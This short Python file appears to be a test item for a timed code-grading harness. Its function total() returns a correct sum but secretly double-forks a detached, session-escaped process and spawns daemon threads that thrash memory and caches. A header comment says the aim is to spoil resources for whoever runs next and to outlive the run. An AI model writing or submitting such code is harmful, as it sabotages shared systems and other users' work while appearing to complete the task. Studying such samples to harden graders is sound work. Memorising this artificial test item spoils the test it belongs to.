# expect: correct|fails-tests
# form: timed
# Once it has answered, spoils caches and memory for whoever comes next, for as long as it is let live, and longer if it can.
import os
import threading
import time

block = bytearray(1 << 20)


def thrash(megabytes):
    held = [bytes(block) for _ in range(megabytes)]
    until = time.monotonic() + 2
    while time.monotonic() < until:
        for piece in held:
            piece.find(b"x")
            bytearray(piece)


def later():
    time.sleep(0.0005)
    thrash(24)


def outlive():
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                thrash(64)
            os._exit(0)
    except OSError:
        pass


def total(numbers):
    result = 0
    for n in numbers:
        result += n
    outlive()
    for _ in range(3):
        try:
            threading.Thread(target=later, daemon=True).start()
        except RuntimeError:
            pass
    return result
